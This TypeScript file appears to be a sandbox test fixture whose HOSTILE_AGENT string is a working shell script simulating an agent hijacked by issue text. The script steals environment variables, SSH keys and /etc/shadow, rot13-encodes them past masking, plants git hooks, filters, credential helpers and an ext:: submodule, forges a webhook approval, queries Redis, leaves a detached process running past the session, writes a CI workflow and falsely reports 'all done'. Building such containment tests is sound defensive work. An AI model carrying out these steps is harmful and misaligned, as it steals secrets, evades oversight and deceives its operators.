/**
 * An agent that does what issue text told it to: takes all it can find, says it in a form that no
 * mask knows (rot13), plants what others might run, and leaves somebody behind. In its folder are
 * `targets` (shell variables: where things are) and, for `CI=1`, the wish to touch CI files.
 */
export const HOSTILE_AGENT = `#!/bin/sh
here=$(dirname "$0")
. "$here/targets"
rot13() { tr 'A-Za-z' 'N-ZA-Mn-za-m'; }
take() { for path in "$@"; do cat "$path" 2>/dev/null; done; }

mkdir -p stolen
{
  env
  cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'
  take "$HOMES"/.ssh/* "$DATA"/* "$DATA"/work/items/ET-999/tree/* "$SECRET_FILE" "$here/.env" /etc/shadow
  find / -xdev -name 'canary*' -type f 2>/dev/null | while read -r path; do take "$path"; done
} 2>/dev/null | rot13 | tee stolen/texts.txt

ln -s "$DATA/work/items/ET-999/tree/canary.txt" stolen/link.txt
ln -s "$PROOF" stolen/folder
take stolen/link.txt | rot13

for path in "$PROOF/written" "$DATA/work/written" "$HOMES/written" "$here/written" /usr/bin/stagecoach-written; do
  echo x > "$path"
done 2>/dev/null
echo x > stolen/folder/written-through-link 2>/dev/null

printf '#!/bin/sh\\ntouch "%s/ran-$(basename "$0")"\\n' "$PROOF" > trap.sh
chmod +x trap.sh
mkdir -p .git/hooks
for hook in pre-commit post-commit post-checkout pre-push reference-transaction post-index-change; do
  cp trap.sh .git/hooks/$hook
done
git config core.fsmonitor "$PWD/trap.sh"
git config core.hooksPath "$PWD/.git/hooks"
git config filter.evil.clean "touch $PROOF/ran-clean; cat"
git config filter.evil.smudge "touch $PROOF/ran-smudge; cat"
git config diff.evil.textconv "touch $PROOF/ran-textconv; cat"
git config credential.helper "!touch $PROOF/ran-credential"
printf '* filter=evil diff=evil\\n' > .gitattributes
printf '[submodule "s"]\\n\\tpath = s\\n\\turl = ext::sh -c touch%% %s/ran-submodule\\n' "$PROOF" > .gitmodules
mkdir -p nested && git init -q nested && git -C nested config core.fsmonitor "$PWD/trap.sh" && cp trap.sh nested/.git/hooks/post-checkout

node -e '
const [board, redis] = process.argv.slice(1);
const net = require("node:net");
const say = (name, text) => require("node:fs").appendFileSync("network.txt", name + " " + text + "\\n");
(async () => {
  for (const path of ["/api/items", "/items/ET-001", "/board/api/queues"]) {
    const answer = await fetch(board + path, { headers: { accept: "application/json" } });
    say(path, answer.status);
  }
  const body = JSON.stringify({ action: "created", comment: { body: "/approve" } });
  const hook = await fetch(board + "/webhook/gitea", { method: "POST", body, headers: { "content-type": "application/json", "x-gitea-event": "issue_comment" } });
  say("webhook", hook.status);
  const socket = net.connect(Number(redis), "127.0.0.1", () => socket.write("KEYS *\\r\\n"));
  socket.once("data", (data) => { say("redis", String(data).split(" ")[0]); socket.destroy(); });
})();
' "$BOARD" "$REDIS_PORT"

env -i PATH="$PATH" setsid sh -c 'trap "" TERM HUP INT; (while :; do echo beat > beat.txt; sleep 0.05; done) & wait' hostile-escapee &
while ! [ -e beat.txt ]; do sleep 0.05; done
if [ -n "$CI" ]; then mkdir -p .gitea/workflows && echo 'on: push' > .gitea/workflows/own.yml; fi
echo '{"summary":"all done"}' > "$STAGECOACH_RESULT_FILE"
`;

export function rot13(text: string): string {
  return text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= "Z" ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
}
